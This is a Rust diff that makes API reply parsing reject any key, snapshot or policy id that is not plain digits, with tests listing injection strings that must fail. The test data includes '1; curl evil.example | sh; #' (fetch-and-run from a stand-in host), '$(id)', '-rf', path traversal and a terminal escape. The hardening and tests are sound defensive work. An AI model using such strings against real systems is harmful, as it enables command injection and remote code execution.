@@ -13,7 +13,7 @@ use crate::text::size;
 
 #[derive(Deserialize)]
 struct KeyReply {
-    id: TextOrNumber,
+    id: Id,
     name: String,
     #[serde(default)]
     comment: String,
@@ -65,8 +65,8 @@ impl<'de> Deserialize<'de> for UsagesReply {
     fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
         #[derive(Deserialize)]
         struct ByKind {
-            snapshots: Entries<TextOrNumber, { USAGES.entries }>,
-            snapshot_policies: Entries<TextOrNumber, { USAGES.entries }>,
+            snapshots: Entries<Id, { USAGES.entries }>,
+            snapshot_policies: Entries<Id, { USAGES.entries }>,
         }
 
         struct Usages;
@@ -86,7 +86,7 @@ impl<'de> Deserialize<'de> for UsagesReply {
             fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<UsagesReply, A::Error> {
                 let by_kind = ByKind::deserialize(de::value::MapAccessDeserializer::new(map))?;
                 let of_kind = |kind: &'static str, ids: Entries<_, _>| {
-                    let usage = move |id| UsageReply {
+                    let usage = move |Id(id)| UsageReply {
                         kind: kind.to_owned(),
                         id,
                     };
@@ -108,10 +108,31 @@ impl<'de> Deserialize<'de> for UsagesReply {
 type UsageEntries = Entries<UsageReply, { USAGES.entries }>;
 
 #[derive(Deserialize)]
+#[serde(try_from = "AnyUsage")]
 struct UsageReply {
+    kind: String,
+    id: String,
+}
+
+#[derive(Deserialize)]
+struct AnyUsage {
     #[serde(rename = "type")]
     kind: String,
     id: TextOrNumber,
+}
+
+impl TryFrom<AnyUsage> for UsageReply {
+    type Error = InvalidId;
+
+    fn try_from(AnyUsage { kind, id }: AnyUsage) -> Result<Self, InvalidId> {
+        let id = match (kind.as_str(), id) {
+            ("snapshot" | "snapshot_policy", id) => Id::try_from(id)?.0,
+            // A UUID for a replication target; anything for kinds that a later version adds.
+            (_, TextOrNumber(text)) if is_word(&text) => text,
+            _ => return Err(InvalidId),
+        };
+        Ok(Self { kind, id })
+    }
 }
 
 #[derive(Deserialize)]
@@ -131,7 +152,7 @@ struct SnapshotReply {
     #[serde(default)]
     expiration: Option<String>,
     // Without a default: a reply that does not tell must not read as "not locked".
-    #[serde(deserialize_with = "optional_text_or_number")]
+    #[serde(deserialize_with = "optional_id")]
     lock_key: Option<String>,
 }
 
@@ -146,7 +167,7 @@ struct StatusesReply {
 #[derive(Deserialize)]
 struct StatusReply {
     id: u64,
-    #[serde(deserialize_with = "optional_text_or_number")]
+    #[serde(deserialize_with = "optional_id")]
     lock_key: Option<String>,
 }
 
@@ -177,9 +198,33 @@ impl<'de> Deserialize<'de> for TextOrNumber {
     }
 }
 
-impl From<TextOrNumber> for String {
-    fn from(value: TextOrNumber) -> Self {
-        value.0
+/// The id of a key, a snapshot or a policy: digits, as a string or a number. Ids go into URLs and into
+/// commands to copy, so nothing else may pass for one.
+#[derive(Deserialize)]
+#[serde(try_from = "TextOrNumber")]
+struct Id(String);
+
+/// The digits of a 64-bit number.
+const LONGEST_ID: usize = 20;
+
+/// More than twice the length of a UUID.
+const LONGEST_WORD: usize = 80;
+
+/// The id itself stays out of the message.
+#[derive(Debug, thiserror::Error)]
+#[error("invalid id")]
+struct InvalidId;
+
+impl TryFrom<TextOrNumber> for Id {
+    type Error = InvalidId;
+
+    fn try_from(TextOrNumber(text): TextOrNumber) -> Result<Self, InvalidId> {
+        let is_id =
+            (1..=LONGEST_ID).contains(&text.len()) && text.bytes().all(|b| b.is_ascii_digit());
+        match is_id {
+            true => Ok(Self(text)),
+            false => Err(InvalidId),
+        }
     }
 }
 
@@ -221,16 +266,19 @@ impl<'de, T: Deserialize<'de>, const MAX: usize> Deserialize<'de> for Entries<T,
     }
 }
 
-fn optional_text_or_number<'de, D: Deserializer<'de>>(
-    deserializer: D,
-) -> Result<Option<String>, D::Error> {
-    Ok(Option::<TextOrNumber>::deserialize(deserializer)?.map(Into::into))
+fn is_word(text: &str) -> bool {
+    let allowed = |b: u8| b.is_ascii_alphanumeric() || b"-._".contains(&b);
+    (1..=LONGEST_WORD).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(allowed)
+}
+
+fn optional_id<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
+    Ok(Option::<Id>::deserialize(deserializer)?.map(|id| id.0))
 }
 
 impl From<KeyReply> for StoredKey {
     fn from(reply: KeyReply) -> Self {
         Self {
-            id: reply.id.into(),
+            id: reply.id.0,
             name: reply.name,
             comment: reply.comment,
             disabled: reply.disabled,
@@ -243,7 +291,7 @@ impl From<UsageReply> for Usage {
     fn from(reply: UsageReply) -> Self {
         Self {
             kind: reply.kind,
-            id: reply.id.into(),
+            id: reply.id,
         }
     }
 }
@@ -773,6 +821,54 @@ mod tests {
         assert_eq!(lock_key(r#", "lock_key": 2"#).as_deref(), Some("2"));
         assert_eq!(lock_key(r#", "lock_key": null"#), None);
         assert!(parse("").is_err());
+    }
+
+    #[test]
+    fn ids_are_digits() {
+        let key = |id: &str| {
+            stored_key(format!(r#"{{"id": {id}, "name": "a", "public_key": "b"}}"#).as_bytes())
+        };
+        let snapshot =
+            |id: &str| snapshot(format!(r#"{{"id": 7, "lock_key": {id}}}"#).as_bytes(), 7);
+        let usage = |kind: &str, id: &str| {
+            usage(format!(r#"[{{"type": "{kind}", "id": {id}}}]"#).as_bytes())
+        };
+        for id in ["\"1\"", "1", "\"18446744073709551615\""] {
+            assert_eq!(key(id).unwrap().id, id.trim_matches('"'));
+            assert!(snapshot(id).is_ok());
+            assert!(usage("snapshot", id).is_ok());
+        }
+        for id in [
+            "\"\"",
+            "\"1; curl evil.example | sh; #\"",
+            "\"$(id)\"",
+            "\"-1\"",
+            "\"+1\"",
+            "\" 1\"",
+            "\"1\\n\"",
+            "\"\\u0661\"",
+            "\"0x1\"",
+            "\"../1\"",
+            "\"\\u001b[2J\"",
+            "\"111111111111111111111\"",
+            "-1",
+            "1.5",
+            "true",
+            "[]",
+        ] {
+            assert!(key(id).is_err(), "{id}");
+            assert!(snapshot(id).is_err(), "{id}");
+            assert!(usage("snapshot", id).is_err(), "{id}");
+            assert!(usage("snapshot_policy", id).is_err(), "{id}");
+        }
+        assert_eq!(
+            key("\"1; evil\"").unwrap_err().to_string(),
+            "a key in JSON (invalid id at line 1 column 16)"
+        );
+        assert!(usage("replication_target", "\"0a1b-2c3d\"").is_ok());
+        for id in ["\"\"", "\"a b\"", "\"$(id)\"", "\"-rf\"", "\"a/b\""] {
+            assert!(usage("replication_target", id).is_err(), "{id}");
+        }
     }
 
     #[test]
